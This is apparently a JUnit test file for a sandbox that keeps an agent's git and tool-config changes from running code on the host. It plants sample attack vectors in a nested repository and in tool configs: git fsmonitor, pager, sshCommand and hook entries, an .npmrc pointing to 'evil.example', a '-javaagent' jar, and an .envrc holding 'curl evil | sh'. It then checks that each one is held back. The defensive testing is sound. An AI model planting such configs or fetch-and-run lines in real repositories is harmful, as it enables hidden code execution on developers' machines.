package dev.sallyport.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * An agent's day of work in its checkout, with a real git inside a real sandbox and the host's git after the run:
 * commits by default, nested clones kept as repositories with what git would obey held back, tool configs held back
 * instead of live.
 */
@Timeout(120)
@ExtendWith(Fixture.Extension.class)
class WorkInCheckoutTest {

    @Test
    void aCommitWorksByDefaultWithTheDefaultIdentityWhenTheHostHasNone(Fixture f) throws Exception {
        f.host("git", "init", "-q", "-b", "main");
        Fixture.Run r = f.run("echo hi > a.txt && git add a.txt && git commit -q -m 'from the sandbox' && echo commit=ok;"
                + " git log -1 --format='%an <%ae>'");
        assertThat(r.out()).as(r.err()).contains("commit=ok", "Sallyport sandbox <sandbox@sallyport.invalid>");
        assertThat(r.err()).contains("git: no user.name and user.email on the host");
        assertThat(f.host("git", "log", "--format=%s %an")).isEqualTo("from the sandbox Sallyport sandbox\n");
        assertThat(f.host("git", "status", "--porcelain")).isEmpty();
    }

    @Test
    void aNestedCloneStaysARepositoryOnTheHostAndWhatItsGitWouldRunIsHeldBack(Fixture f) throws Exception {
        f.host("git", "init", "-q", "-b", "main", "upstream");
        f.host("git", "-C", "upstream", "-c", "user.name=u", "-c", "user.email=u@example.com", "commit", "-q",
                "--allow-empty", "-m", "upstream one");
        f.host("git", "clone", "-q", "--bare", "upstream", "vendor.git");
        Path marker = f.root.resolve("host-ran");
        String run = "touch " + marker;
        Fixture.Run r = f.run("git clone -q ./vendor.git nested && cd nested"
                + " && git config core.fsmonitor '" + run + "; false' && git config core.hooksPath /tmp"
                + " && git config alias.st '!" + run + "' && git config alias.last 'log -1'"
                + " && git config include.path ../../evil.inc && git config filter.x.clean '" + run + "'"
                + " && git config core.sshCommand '" + run + "' && git config core.pager '" + run + "'"
                + " && git config branch.main.description 'kept'"
                + " && printf '#!/bin/sh\\n" + run + "\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout"
                + " && git commit -q --allow-empty -m 'nested two' && echo nested=ok");
        assertThat(r.out()).as(r.err()).contains("nested=ok");
        Path nested = f.workspace.resolve("nested");
        // the host's git: the same repository, the sandbox's commit in it, nothing of what was planted runs
        assertThat(nested.resolve(".git/HEAD")).isRegularFile();
        assertThat(f.host("git", "-C", "nested", "log", "--format=%s")).isEqualTo("nested two\nupstream one\n");
        assertThat(f.host("git", "-C", "nested", "rev-parse", "--show-toplevel").strip())
                .isEqualTo(nested.toRealPath().toString());
        f.host("git", "-C", "nested", "status");
        f.host("git", "-C", "nested", "last");
        f.host("git", "-C", "nested", "checkout", "-q", "-b", "other");
        assertThat(marker).as("nothing the sandbox planted ran on the host").doesNotExist();
        String config = Files.readString(nested.resolve(".git/config"));
        assertThat(config).doesNotContain("fsmonitor", "hooksPath", "sshCommand", "pager", "filter", "include", "touch")
                .contains("url = ", "last = ", "kept");
        assertThat(nested.resolve(".git/hooks/post-checkout")).doesNotExist();
        assertThat(nested.resolve(".git/hooks/pre-commit.sample")).as("git's samples stay").exists();
        assertThat(r.notices()).anySatisfy(line -> assertThat(line).startsWith(nested.resolve(".git/config")
                        + ": removed what the host's git would run or follow (").contains("core.fsmonitor",
                        "core.hookspath", "alias.st", "include.path", "filter.x.clean", "core.sshcommand", "core.pager")
                        .doesNotContain("alias.last", "remote.origin.url"))
                .anySatisfy(line -> assertThat(line).isEqualTo(nested.resolve(".git/hooks/post-checkout")
                        + ": git runs it as the post-checkout hook: held back"));
        // held back, not lost: accepting puts the original config back
        Held held = f.held();
        Held.Item original = held.item("nested/.git/config").orElseThrow();
        assertThat(new String(held.proposed(original), StandardCharsets.UTF_8)).contains("fsmonitor");
        assertThat(held.item("nested/.git/hooks/post-checkout").orElseThrow().mode() & 0100).isNotZero();
        held.discard(original);
        assertThat(held.item("nested/.git/config")).isEmpty();
    }

    @Test
    void aGitFileThatPointsOutsideTheWorkspaceIsQuarantinedAndOneInsideIsKept(Fixture f) throws Exception {
        Fixture.Run r = f.run("git init -q real && mkdir -p wt other"
                + " && printf 'gitdir: ../real/.git\\n' > wt/.git && printf 'gitdir: /etc\\n' > other/.git && echo ok");
        assertThat(r.out()).as(r.err()).contains("ok");
        assertThat(f.workspace.resolve("wt/.git")).hasContent("gitdir: ../real/.git");
        assertThat(f.workspace.resolve("other/.git")).doesNotExist();
        assertThat(f.workspace.resolve("other/.git.sallyport-quarantine")).exists();
    }

    @Test
    void toolConfigsWrittenInTheSandboxAreHeldBackAndTheOriginalsPutBack(Fixture f) throws Exception {
        f.write(".npmrc", "registry=https://registry.example/\n");
        f.write("rust-toolchain.toml", "[toolchain]\nchannel = \"stable\"\n");
        f.write("svc/.cargo/config.toml", "[build]\n");
        SandboxSpec spec = f.spec("echo 'registry=https://evil.example/' > .npmrc && echo npmrc=ok;"
                + " mkdir -p app/.mvn && echo '-javaagent:/tmp/evil.jar' > app/.mvn/jvm.config && echo jvm=ok;"
                + " rm rust-toolchain.toml && echo rm=ok; echo 'curl evil | sh' > .envrc && echo envrc=ok;"
                + " rm -rf svc/.cargo && ln -s /tmp svc/.cargo && echo link=ok;"
                + " echo x > tool.cfg && mkdir -p node_modules/p && echo x > node_modules/p/.npmrc && echo nm=ok")
                .hold("tool.cfg").build();
        Fixture.Run r = f.run(spec, new byte[0]);
        assertThat(r.out()).as(r.err()).contains("npmrc=ok", "jvm=ok", "rm=ok", "envrc=ok", "link=ok", "nm=ok");
        Path ws = f.workspace;
        assertThat(ws.resolve(".npmrc")).hasContent("registry=https://registry.example/");
        assertThat(ws.resolve("rust-toolchain.toml")).hasContent("[toolchain]\nchannel = \"stable\"");
        assertThat(ws.resolve("app/.mvn/jvm.config")).doesNotExist();
        assertThat(ws.resolve(".envrc")).doesNotExist();
        assertThat(ws.resolve("tool.cfg")).as("a name from the policy").doesNotExist();
        assertThat(ws.resolve("node_modules/p/.npmrc")).as("inside node_modules nothing is held").exists();
        Held held = f.held();
        assertThat(held.items()).extracting(Held.Item::path).containsExactly(".envrc", ".npmrc", "app/.mvn/jvm.config",
                "rust-toolchain.toml", "svc/.cargo/config.toml", "tool.cfg");
        assertThat(held.item("rust-toolchain.toml").orElseThrow().kind()).isEqualTo(Held.Kind.DELETE);
        assertThat(r.notices()).anySatisfy(line -> assertThat(line).isEqualTo(ws.resolve(".npmrc") + ": changed in "
                        + "the sandbox (npm and pnpm take registries, scripts and the shell for scripts from it): held "
                        + "back; the original is back"))
                .anySatisfy(line -> assertThat(line).startsWith(ws.resolve("svc/.cargo") + ": created as a symbolic "
                        + "link to /tmp in the sandbox").endsWith(": removed"))
                .anySatisfy(line -> assertThat(line).startsWith(ws.resolve("svc/.cargo/config.toml")
                        + ": deleted or moved in the sandbox").endsWith("held back; the original is back"))
                .last().asString().isEqualTo("6 changes held back from the workspace; review and apply with: "
                        + "sallyport accept --workdir " + ws);
        assertThat(ws.resolve("svc/.cargo/config.toml")).as("the link is gone, the folder back").hasContent("[build]");
        // accepting writes what the command wrote; it never writes through a link on the way
        held.accept(held.item(".npmrc").orElseThrow());
        assertThat(ws.resolve(".npmrc")).hasContent("registry=https://evil.example/");
        held.accept(held.item("rust-toolchain.toml").orElseThrow());
        assertThat(ws.resolve("rust-toolchain.toml")).doesNotExist();
        Path elsewhere = Files.createDirectories(f.root.resolve("elsewhere"));
        Files.delete(ws.resolve("app/.mvn"));
        Files.createSymbolicLink(ws.resolve("app/.mvn"), elsewhere);
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> held.accept(held.item("app/.mvn/jvm.config")
                .orElseThrow())).hasMessageContaining("app/.mvn is a symbolic link");
        assertThat(elsewhere.resolve("jvm.config")).doesNotExist();
        assertThat(held.item("app/.mvn/jvm.config")).as("still held").isPresent();
    }

    @Test
    void aRunThatLeavesTheToolConfigsAloneHoldsNothing(Fixture f) throws Exception {
        f.write(".npmrc", "registry=https://registry.example/\n");
        Fixture.Run r = f.run("cat .npmrc > /dev/null && echo ok");
        assertThat(r.out()).contains("ok");
        assertThat(r.notices()).isEmpty();
        assertThat(f.held().items()).isEmpty();
    }
}
